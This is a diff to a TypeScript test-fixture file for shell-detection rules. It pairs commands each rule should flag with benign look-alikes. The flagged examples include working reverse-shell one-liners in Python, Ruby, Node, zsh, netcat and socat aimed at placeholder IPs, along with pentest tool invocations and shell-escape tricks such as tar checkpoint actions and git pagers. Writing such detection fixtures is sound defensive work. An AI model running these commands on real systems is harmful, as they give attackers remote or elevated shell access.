@@ -3,6 +3,9 @@ import type { RuleExamples } from './rule-examples.ts';
 export const SHELLS_EXAMPLES: RuleExamples = {
   'shells.code-socket': {
     fires: [
+      'ruby -rsocket -e \'spawn("zsh", in: TCPSocket.new("198.51.100.9", 80))\'',
+      'python3 -c \'from socket import *; import os; s=socket(); s.connect(("198.51.100.9",80)); os.dup2(s.fileno(),0); os.system("dash")\'',
+      'node -e \'const n=require("net"),c=require("child_process").spawn("ksh");const s=n.connect(80,"198.51.100.9");s.pipe(c.stdin)\'',
       'python -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
       'perl -e \'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'',
       'ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
@@ -12,14 +15,28 @@ export const SHELLS_EXAMPLES: RuleExamples = {
       'node -e \'(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.1",function(){client.pipe(sh.stdin);});})()\'',
       'export RHOST=10.0.0.1; python -c \'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")\'',
     ],
-    silent: ['ssh -L 8080:localhost:80 host', 'sshpass -V', 'nc -zv host 80', 'socket host 80'],
+    silent: [
+      "python3 -c 'import socket; print(socket.gethostname())'",
+      "ruby -rsocket -e 'puts Socket.gethostname'",
+      'ssh -L 8080:localhost:80 host',
+      'sshpass -V',
+      'nc -zv host 80',
+      'socket host 80',
+    ],
   },
   'shells.dev-tcp': {
     fires: [
+      "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.9 80 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
       'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
       'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
     ],
-    silent: ['ssh -L 8080:localhost:80 host', 'sshpass -V', 'nc -zv host 80', 'socket host 80'],
+    silent: [
+      'zmodload zsh/datetime',
+      'ssh -L 8080:localhost:80 host',
+      'sshpass -V',
+      'nc -zv host 80',
+      'socket host 80',
+    ],
   },
   'shells.interactive-over-network': {
     fires: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
@@ -35,13 +52,23 @@ export const SHELLS_EXAMPLES: RuleExamples = {
   },
   'shells.netcat-exec': {
     fires: [
+      'nc -eu /bin/sh 198.51.100.9 80',
+      'nc -lvpe 80 /bin/bash',
+      'ncat -c zsh 198.51.100.9 80',
+      'busybox nc 198.51.100.9 80 -e ash',
       'nc -e /bin/sh 10.0.0.1 4444',
       'nc 10.0.0.1 4444 -e /bin/bash',
       'ncat --sh-exec "/bin/sh" 10.0.0.1 4444',
       'socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane',
       'socat TCP4-LISTEN:4444,reuseaddr,fork EXEC:bash',
     ],
-    silent: ["echo 'show stat' | socat stdio /run/haproxy.sock", 'nc -zv host 80', 'nc -l 8080'],
+    silent: [
+      'nc -zv host 22',
+      'nc -z -w1 host 80',
+      "echo 'show stat' | socat stdio /run/haproxy.sock",
+      'nc -zv host 80',
+      'nc -l 8080',
+    ],
   },
   'shells.kept-root': {
     fires: ['./bash -p', '/tmp/rootbash -p', '/home/ada/.cache/sh -p'],
@@ -52,8 +79,13 @@ export const SHELLS_EXAMPLES: RuleExamples = {
     silent: ['xterm -display :1', 'xterm -e top', 'DISPLAY=10.0.0.1:1 xclock'],
   },
   'shells.payload-tool': {
-    fires: ['msfvenom -p linux/x64/shell_reverse_tcp LHOST=1 LPORT=2 -f elf'],
-    silent: ['msfconsole --version'],
+    fires: [
+      'ew -s rssocks -d 198.51.100.9 -e 80',
+      'gs-netcat -s x -l -i',
+      'netexec smb 198.51.100.0/24',
+      'msfvenom -p linux/x64/shell_reverse_tcp LHOST=1 LPORT=2 -f elf',
+    ],
+    silent: ['ew --help', 'msfconsole --version'],
   },
   'shells.piped-to-network': {
     fires: [
@@ -72,5 +104,35 @@ export const SHELLS_EXAMPLES: RuleExamples = {
   'shells.socket-program': {
     fires: ["socket -qvp '/bin/sh -i' 10.0.0.1 4444"],
     silent: ['socket host 80'],
+  },
+  'shells.escape': {
+    fires: [
+      'perl -e \'exec "/bin/sh"\'',
+      'python3 -c \'import pty; pty.spawn("/bin/bash")\'',
+      'awk \'BEGIN {system("/bin/sh")}\'',
+      String.raw`find . -exec /bin/sh -p \; -quit`,
+      'flock -u / /bin/sh',
+      'nice /bin/bash',
+      "vim -c ':!/bin/sh'",
+      'timeout 7d /bin/sh',
+      'git -c core.pager=/bin/sh log',
+      'ruby -e \'exec "/bin/bash"\'',
+      'lua -e \'os.execute("/bin/sh")\'',
+      'php -r \'system("/bin/sh");\'',
+      'env /bin/sh',
+      'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh',
+    ],
+    silent: [
+      String.raw`find . -name '*.sh' -exec sh {} \;`,
+      'python3 -c \'import subprocess; subprocess.run(["sh", "build.sh"])\'',
+      'docker exec -it web bash',
+      'ssh host bash',
+      'env FOO=1 bash script.sh',
+      'timeout 10 bash test.sh',
+      'bash',
+      'tmux new bash',
+      'nice -n 10 make',
+      String.raw`find . -exec sh -c 'echo x' \;`,
+    ],
   },
 };
